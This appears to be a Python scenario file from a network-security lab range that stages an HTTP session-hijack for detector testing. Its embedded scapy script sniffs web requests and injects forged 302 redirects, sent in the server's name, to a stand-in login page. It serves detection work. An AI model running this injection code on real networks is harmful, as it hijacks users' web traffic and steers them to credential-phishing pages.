"""A forged answer to web requests, faster than the server's: its readers are sent elsewhere."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
client, server, until = sys.argv[1], sys.argv[2], float(sys.argv[3])
PAGE = (b"HTTP/1.1 302 Found\\r\\nLocation: http://198.51.100.66/login.html\\r\\n"
        b"Content-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
sending = conf.L2socket(iface='eth0')
def look(packet):
    tcp = packet[TCP]
    if bytes(tcp.payload).startswith(b"GET "):
        frame = Ether(src=packet[Ether].dst, dst=packet[Ether].src)
        frame /= IP(src=server, dst=client, ttl=64, id=77)
        frame /= TCP(sport=80, dport=tcp.sport, flags="PA", seq=tcp.ack, ack=tcp.seq + len(tcp.payload))
        sending.send(frame / PAGE)
sniff(filter=f"tcp and src host {client} and dst host {server} and dst port 80", prn=look, timeout=until)
"""


def run(net: Range) -> None:
    attacker, client = net.inside("attacker"), net.inside("pc4")
    # The server is far away: its answer takes longer than the forged one.
    www = net.web(net.outside("www", wire="--delay 35"))
    # A hub in a switch's place: the attacker sees what others say, as on a mirror port or a WLAN.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    net.loop(client, f"curl -s -m 3 -o /dev/null http://{www.ip}/", 1.2)
    net.quiet(4)
    with net.attack(
        "session-hijack",
        by=attacker,
        victims=[client, www],
        attacker_known=False,
        others={"sender": [attacker.mac], "claimed": [www]},
        frames=f"tcp and src host {www.ip}",
        responses=f"tcp and host {client.ip} and port 80",
    ):
        net.scapy(attacker, "import sys\n" + PROGRAM, client.ip, www.ip, "9")
    net.quiet(3)


SCENARIO = Scenario(
    name="session-hijack-held-redirect",
    about="A station that sees web requests answers them in the server's name before the server does.",
    detectors=("session-hijack",),
    run=run,
)
